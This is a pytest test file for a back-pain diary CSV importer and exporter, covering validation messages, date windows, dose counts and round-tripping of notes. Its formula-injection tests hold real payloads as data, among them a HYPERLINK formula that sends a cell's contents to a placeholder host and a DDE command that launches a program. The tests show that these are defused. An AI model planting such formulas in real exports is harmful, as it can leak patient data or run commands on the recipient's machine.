"""The diary CSV: every malformed row is named with its line, and what is written reads back.

A note a spreadsheet would run as a formula is written as text and read back as typed.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Sequence
from datetime import date, time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from flows.clinical.codes import Finding
from flows.records.diary_csv import (
    COLUMNS,
    DateWindow,
    DiaryRow,
    date_window,
    parse_diary,
    write_diary,
)
from flows.records.models import NOTE_MAX_CHARS

DIARIES = Path(__file__).resolve().parents[1] / "data" / "diaries"
# The six columns of DESIGN.md, as other tools and older versions write them.
HEADER = "date,time,back_pain,leg_pain,symptoms,note\n"
WRITTEN = ",".join(COLUMNS) + "\n"


def messages(text: str) -> list[str]:
    return [error.message for error in parse_diary(text).errors]


def test_every_sample_diary_reads_without_errors() -> None:
    files = sorted(DIARIES.glob("diary_*.csv"))
    assert len(files) == 40
    for path in files:
        parsed = parse_diary(path.read_text(encoding="utf-8"))
        assert parsed.ok, (path.name, parsed.errors)
        assert len(parsed.rows) > 50


def test_a_row_is_read_with_every_column() -> None:
    parsed = parse_diary(HEADER + '2026-03-14,08:30,4,6,pain_one_leg; fever,"bad night"\n')
    assert parsed.ok
    assert parsed.rows == [
        DiaryRow(
            entry_date=date(2026, 3, 14),
            entry_time=time(8, 30),
            back_pain=4,
            leg_pain=6,
            symptoms=(Finding.PAIN_ONE_LEG, Finding.FEVER),
            note="bad night",
        )
    ]


def test_out_of_range_pain_is_reported_with_its_line_number() -> None:
    rows = "".join(f"2026-03-{day:02d},,3,2,,\n" for day in range(1, 13))
    text = HEADER + rows + "2026-03-13,,12,2,,\n"
    assert messages(text) == ["line 14: back_pain 12 is out of range 0–10"]


def test_line_numbers_count_lines_inside_quoted_notes() -> None:
    text = HEADER + '2026-03-01,,3,2,,"first line\nsecond line"\n2026-03-02,,3,-1,,\n'
    assert messages(text) == ["line 4: leg_pain -1 is out of range 0–10"]


def test_a_symptom_not_understood_is_named_and_the_rest_of_its_row_is_kept() -> None:
    parsed = parse_diary(HEADER + '2026-03-01,,3,2,fever;sore_toe,"bad night"\n')
    assert parsed.ok
    assert [problem.message for problem in parsed.not_understood] == [
        "line 2: symptom 'sore_toe' not understood"
    ]
    assert parsed.rows == [
        DiaryRow(
            entry_date=date(2026, 3, 1),
            back_pain=3,
            leg_pain=2,
            symptoms=(Finding.FEVER,),
            note="bad night",
        )
    ]


def test_the_bots_own_labels_are_read_as_their_codes_in_any_case() -> None:
    text = HEADER + (
        "2026-03-01,,3,7,Pain down one leg,\n"
        '2026-03-02,,3,7,"  PAIN DOWN ONE LEG ;burning, tingling or electric pain",\n'
        "2026-03-03,,3,7,Muscle_Tightness;muscle tightness or spasm,\n"
        "2026-03-04,,3,7,muscle_spasm;Pain down one leg;leg hurts,\n"
    )
    parsed = parse_diary(text)
    assert parsed.ok
    assert [row.symptoms for row in parsed.rows] == [
        (Finding.PAIN_ONE_LEG,),
        (Finding.PAIN_ONE_LEG, Finding.PAIN_NEUROPATHIC),
        (Finding.MUSCLE_TIGHTNESS,),
        (Finding.PAIN_ONE_LEG,),
    ]
    assert [(problem.line, problem.message) for problem in parsed.not_understood] == [
        (5, "line 5: symptom 'muscle_spasm' not understood"),
        (5, "line 5: symptom 'leg hurts' not understood"),
    ]


@pytest.mark.parametrize(
    ("row", "message"),
    [
        ("2026-02-30,,3,2,,", "line 2: date '2026-02-30' is not a valid date (use YYYY-MM-DD)"),
        ("14/03/2026,,3,2,,", "line 2: date '14/03/2026' is not a valid date (use YYYY-MM-DD)"),
        (",,3,2,,", "line 2: date is missing"),
        (
            "2026-03-01,25:00,3,2,,",
            "line 2: time '25:00' is not a valid time (use HH:MM, 00:00–23:59)",
        ),
        ("2026-03-01,,three,2,,", "line 2: back_pain 'three' is not a whole number from 0 to 10"),
        ("2026-03-01,,3.5,2,,", "line 2: back_pain '3.5' is not a whole number from 0 to 10"),
        ("2026-03-01,,,,fever,", "line 2: needs back_pain or leg_pain (at least one)"),
        (
            "2026-03-01,,3,2,,a note, with a comma",
            "line 2: has 7 fields but the header has 6 (a note with a comma must be in double "
            "quotes)",
        ),
    ],
)
def test_malformed_rows_say_what_is_wrong(row: str, message: str) -> None:
    assert messages(HEADER + row + "\n") == [message]


def test_every_problem_of_every_row_is_reported() -> None:
    text = HEADER + "2026-03-01,,11,2,,\n2026-03-02,,3,2,,\nbad,,3,2,nope,\n"
    parsed = parse_diary(text)
    assert [error.message for error in parsed.errors] == [
        "line 2: back_pain 11 is out of range 0–10",
        "line 4: date 'bad' is not a valid date (use YYYY-MM-DD)",
        "line 4: symptom 'nope' not understood",
    ]
    assert [row.entry_date for row in parsed.rows] == [date(2026, 3, 2)]


def test_a_header_without_a_required_column_is_a_file_error() -> None:
    parsed = parse_diary("when,back_pain\n2026-03-01,3\n")
    assert parsed.rows == []
    assert [error.message for error in parsed.errors] == ["line 1: the header has no date column"]
    assert messages("date,note\n2026-03-01,x\n") == [
        "line 1: the header has no back_pain or leg_pain column"
    ]


def test_an_empty_file_is_an_error() -> None:
    assert messages("") == [
        "line 1: the file is empty; the first line must be the header "
        "(date,time,back_pain,leg_pain,symptoms,note)"
    ]


def test_unknown_columns_are_ignored_and_columns_may_be_reordered() -> None:
    text = "\ufeffleg_pain,date,mood,back_pain\n5,2026-03-01,ok,2\n"
    parsed = parse_diary(text)
    assert parsed.ok
    assert parsed.ignored_columns == ("mood",)
    assert parsed.rows == [DiaryRow(entry_date=date(2026, 3, 1), back_pain=2, leg_pain=5)]


def test_only_one_pain_column_is_enough() -> None:
    parsed = parse_diary("date,leg_pain\n2026-03-01,4\n")
    assert parsed.rows == [DiaryRow(entry_date=date(2026, 3, 1), leg_pain=4)]


def test_several_entries_on_one_date_stay_separate_rows() -> None:
    text = HEADER + "2026-03-01,08:00,3,2,,\n2026-03-01,20:00,7,6,,evening\n\n"
    parsed = parse_diary(text)
    assert parsed.ok
    assert [(r.entry_time, r.back_pain) for r in parsed.rows] == [(time(8), 3), (time(20), 7)]


def test_written_rows_read_back_unchanged() -> None:
    rows = [
        DiaryRow(entry_date=date(2026, 3, 1), back_pain=0, leg_pain=10),
        DiaryRow(
            entry_date=date(2026, 3, 1),
            entry_time=time(21, 5),
            back_pain=4,
            symptoms=(Finding.BLADDER_CHANGE, Finding.PAIN_NEUROPATHIC),
            note='Walked 2 km, then "sharp" pain,\nbetter after rest; ümlauts ok',
        ),
        DiaryRow(entry_date=date(2026, 3, 2), leg_pain=3, note="   "),
    ]
    text = write_diary(rows)
    assert text.startswith(WRITTEN)
    parsed = parse_diary(text)
    assert parsed.ok
    # A note of only spaces is no note.
    assert parsed.rows == [*rows[:2], DiaryRow(entry_date=date(2026, 3, 2), leg_pain=3)]


def test_a_sample_diary_is_written_back_byte_for_byte() -> None:
    text = (DIARIES / "diary_015.csv").read_text(encoding="utf-8")
    # The same rows, each with the empty doses and treatment columns after DESIGN.md's six.
    extra = "as_needed_doses,medicine_doses,medicine_changes,treatment_events"
    expected = "".join(
        f"{line},{extra}\n" if i == 0 else f"{line},,,,\n"
        for i, line in enumerate(text.splitlines())
    )
    assert write_diary(parse_diary(text).rows) == expected


# Notes a spreadsheet would run as formulas (issue 14): the first five are the reported ones.
FORMULAS = (
    '=HYPERLINK("http://x/?d="&A2,"Open")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,1)",
    "-2+3",
    "@SUM(1,1)",
)


def note_cells(text: str) -> list[str]:
    return [row["note"] for row in csv.DictReader(io.StringIO(text, newline=""))]


def notes_read_back(notes: Sequence[str]) -> list[str | None]:
    rows = [DiaryRow(entry_date=date(2026, 3, 1), back_pain=3, note=note) for note in notes]
    parsed = parse_diary(write_diary(rows))
    assert parsed.ok, [e.message for e in parsed.errors]
    return [row.note for row in parsed.rows]


def test_a_note_a_spreadsheet_would_run_is_written_as_text() -> None:
    rows = [DiaryRow(entry_date=date(2026, 3, 1), back_pain=3, note=note) for note in FORMULAS]
    assert note_cells(write_diary(rows)) == [
        '\'=HYPERLINK("http://x/?d="&A2,"Open")',
        "'=cmd|' /C calc'!A0",
        "'+SUM(1,1)",
        "'-2+3",
        "'@SUM(1,1)",
    ]


def test_quotes_tabs_and_returns_in_front_are_neutralised_too_and_plain_notes_are_not() -> None:
    notes = ["'=x", "''+1", "-", "\tindented", "\r=1", "a = b - c", "'quoted'", "2 - 3 walks"]
    rows = [DiaryRow(entry_date=date(2026, 3, 1), back_pain=3, note=note) for note in notes]
    assert note_cells(write_diary(rows)) == [
        "''=x",
        "'''+1",
        "'-",
        "'\tindented",
        "'\r=1",
        "a = b - c",
        "'quoted'",
        "2 - 3 walks",
    ]


def test_our_own_export_reads_back_as_the_notes_that_were_written() -> None:
    notes = [*FORMULAS, "'=x", "''+1", "-", "\tindented", "\r=1", "'quoted'", "a\rb", "'"]
    assert notes_read_back(notes) == notes


def test_the_quote_in_front_of_a_formula_does_not_count_against_the_note_limit() -> None:
    notes = ["=" * NOTE_MAX_CHARS, "-" + "x" * (NOTE_MAX_CHARS - 1)]
    assert notes_read_back(notes) == notes


def test_a_quoted_formula_from_a_spreadsheet_is_imported_without_its_quote() -> None:
    parsed = parse_diary(HEADER + "2026-03-01,,3,,,'=SUM(1;1)\n2026-03-02,,3,,,'ok\n")
    assert [row.note for row in parsed.rows] == ["=SUM(1;1)", "'ok"]


# Notes as the bot stores them: what was typed, without its surrounding whitespace, and
# without NUL characters (bot.reply.storable leaves them out; PostgreSQL refuses them).
STORED_NOTES = (
    st.text(
        st.one_of(
            st.sampled_from("'=+-@\t\r\n\",; "),
            st.characters(exclude_categories=["Cs"], exclude_characters="\x00"),
        ),
        min_size=1,
        max_size=60,
    )
    .map(str.strip)
    .filter(bool)
)


@settings(max_examples=300, deadline=None)
@given(notes=st.lists(STORED_NOTES, min_size=1, max_size=4))
def test_any_stored_note_survives_export_and_import(notes: list[str]) -> None:
    assert notes_read_back(notes) == notes
    for cell in note_cells(write_diary(DiaryRow(date(2026, 3, 1), 3, note=n) for n in notes)):
        assert cell[:1] not in {"=", "+", "-", "@", "\t", "\r"}


AT_LEAST_2019 = date_window(date(2026, 3, 10), 2024)
AT_LEAST_1990 = date_window(date(2026, 3, 10), None)


@pytest.mark.parametrize(
    ("window", "day", "message"),
    [
        (AT_LEAST_2019, "2019-01-01", None),
        (
            AT_LEAST_2019,
            "2018-12-31",
            "line 2: date 2018-12-31 is too long before your operation; I can take entries from "
            "2019-01-01 on (5 years before the year of the operation)",
        ),
        (AT_LEAST_1990, "1990-01-01", None),
        (
            AT_LEAST_1990,
            "1989-12-31",
            "line 2: date 1989-12-31 is too long ago; I can take entries from 1990-01-01 on, or "
            "from 5 years before your operation once its year is set in /settings",
        ),
        (
            AT_LEAST_1990,
            "0001-01-01",
            "line 2: date 0001-01-01 is too long ago; I can take entries from 1990-01-01 on, or "
            "from 5 years before your operation once its year is set in /settings",
        ),
        (AT_LEAST_1990, "2026-03-10", None),
        (
            AT_LEAST_1990,
            "2026-03-11",
            "line 2: date 2026-03-11 is in the future; the latest date I can take is 2026-03-10",
        ),
        (
            AT_LEAST_2019,
            "9999-12-31",
            "line 2: date 9999-12-31 is in the future; the latest date I can take is 2026-03-10",
        ),
    ],
)
def test_rows_outside_the_date_window_are_refused_with_their_line(
    window: DateWindow, day: str, message: str | None
) -> None:
    parsed = parse_diary(HEADER + f"{day},23:59,3,2,,\n", window)
    assert [error.message for error in parsed.errors] == ([message] if message else [])
    assert [row.entry_date.isoformat() for row in parsed.rows] == ([] if message else [day])


def test_a_surgery_year_no_onboarding_offers_still_gives_a_usable_window() -> None:
    today = date(2026, 3, 10)
    assert date_window(today, 1).earliest == date(2, 1, 1)
    assert date_window(today, 99_999).earliest == date(2026, 1, 1)
    assert date_window(today, 1980) == DateWindow(date(1975, 1, 1), today, from_surgery=True)


@pytest.mark.parametrize(
    ("cell", "doses"), [("", None), ("0", 0), ("2", 2), ("3", 3), ("5", 3), (" 1 ", 1)]
)
def test_as_needed_doses_are_read_and_five_counts_as_three_or_more(
    cell: str, doses: int | None
) -> None:
    parsed = parse_diary(WRITTEN + f"2026-03-01,,3,2,,,{cell}\n")
    assert parsed.ok
    assert [r.as_needed_doses for r in parsed.rows] == [doses]


@pytest.mark.parametrize("cell", ["two", "-1", "1.5"])
def test_doses_that_are_not_a_count_say_so_and_skip_the_row(cell: str) -> None:
    assert messages(WRITTEN + f"2026-03-01,,3,2,,,{cell}\n") == [
        f"line 2: as_needed_doses '{cell}' is not a whole number of doses (0 or more; a note "
        "with a comma must be in double quotes)"
    ]


def test_a_note_with_an_unquoted_comma_before_the_doses_is_pointed_out() -> None:
    [message] = messages(WRITTEN + "2026-03-01,,3,2,,stiff, sore\n")
    assert "a note with a comma must be in double quotes" in message


def test_doses_are_written_and_read_back() -> None:
    rows = [
        DiaryRow(entry_date=date(2026, 3, d), back_pain=3, as_needed_doses=d % 4)
        for d in (1, 2, 3, 4)
    ]
    text = write_diary(rows)
    assert text.splitlines()[1] == "2026-03-01,,3,,,,1,,,"
    assert parse_diary(text).rows == rows


def test_a_nul_in_a_file_is_left_out_of_the_note() -> None:
    parsed = parse_diary(HEADER + "2026-03-01,,3,,,sore\x00 knee\n")
    assert [row.note for row in parsed.rows] == ["sore knee"]
